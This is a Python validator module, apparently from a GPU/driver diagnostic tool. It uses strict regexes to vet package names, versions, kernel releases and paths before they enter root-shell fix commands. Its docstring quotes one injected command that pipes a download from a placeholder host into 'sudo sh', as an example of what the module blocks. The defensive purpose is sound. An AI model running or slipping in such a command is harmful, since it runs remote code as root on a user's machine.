"""The one validator for machine text that enters a fix command.

A fix command is something a person copies into a root shell. Text from the machine (a snapshot from a stranger, a
tool's output) may enter one only when it has a strict shape: a package name, a version, a kernel release, a path
of plain characters. `ubuntu-drivers devices` naming a "package"
`nvidia-driver-470 && curl -fsSL https://x.example/x | sudo sh` must never become `sudo apt install nvidia-driver-470
&& curl ... | sudo sh`.

Each function returns the value when it has the shape, else None (and the caller falls back to what it would print
without the value). A refused value is also noted: the engine collects the notes of each check (`collecting()`) and
adds "suspicious value ... not used in a command" to that finding's details, so a person sees that the machine
printed something odd. Pure functions; no I/O.
"""

from __future__ import annotations

import contextlib
import threading

from tfdoctor import textmatch

# Debian policy's package name (and what dnf, zypper and pacman accept within it)
_PACKAGE = textmatch.compile(r"[a-z0-9][a-z0-9+.-]{0,127}")
# an upstream or packaged version: 535.104.05, 1:535.104.05-0ubuntu1, 8.9.7.29-1+cuda12.2, 2.16.1
_VERSION = textmatch.compile(r"[0-9][A-Za-z0-9.+~:_-]{0,63}")
# uname -r: 6.8.0-45-generic, 5.15.153.1-microsoft-standard-WSL2, 6.1.0-rpi7-rpi-v8, 4.18.0-513.el8_9.x86_64
_KERNEL = textmatch.compile(r"[0-9][A-Za-z0-9._+~-]{0,63}")
# an absolute path of plain characters: no spaces, quotes, $, `, ;, &, |, <, >, *, ?, newlines
_PATH = textmatch.compile(r"/[A-Za-z0-9._+@:/-]{0,254}")

_local = threading.local()


def _note(value: object, shape: str) -> None:
    notes = getattr(_local, "notes", None)
    if notes is not None and value not in (None, ""):
        notes.append((value, shape))


def _check(value: object, rx, shape: str) -> str | None:
    if value is None or value == "":
        return None
    if isinstance(value, str) and rx.fullmatch(value) and len(value) <= 255:
        return value
    _note(value, shape)
    return None


def package(value: object) -> str | None:
    """A package name (`nvidia-driver-535`, `libnvidia-compute-535`), or None."""
    return _check(value, _PACKAGE, "package name")


def version(value: object) -> str | None:
    """A version (`535.104.05`, `1:535.104.05-0ubuntu1`), or None."""
    return _check(value, _VERSION, "version")


def kernel_release(value: object) -> str | None:
    """A kernel release as `uname -r` prints it, or None."""
    return _check(value, _KERNEL, "kernel release")


def path(value: object) -> str | None:
    """An absolute path of plain characters, no `..` (a modprobe.d file, a signing key), or None."""
    checked = _check(value, _PATH, "path")
    if checked is not None and ".." in checked.split("/"):
        _note(value, "path")
        return None
    return checked


def suspicious(value: object, shape: str) -> str:
    """The detail line for a refused value."""
    shown = repr(value) if isinstance(value, str) else repr(str(value))
    if len(shown) > 120:
        shown = shown[:117] + "..."
    return f"warning: suspicious value {shown} (not a {shape}) from this machine's output: not used in a command"


@contextlib.contextmanager
def collecting():
    """Collect the values refused in this thread inside the block: yields the list of (value, shape)."""
    before = getattr(_local, "notes", None)
    _local.notes = notes = []
    try:
        yield notes
    finally:
        _local.notes = before


def details_for(notes) -> tuple[str, ...]:
    """One detail line per distinct refused value."""
    seen = []
    for value, shape in notes:
        line = suspicious(value, shape)
        if line not in seen:
            seen.append(line)
    return tuple(seen)
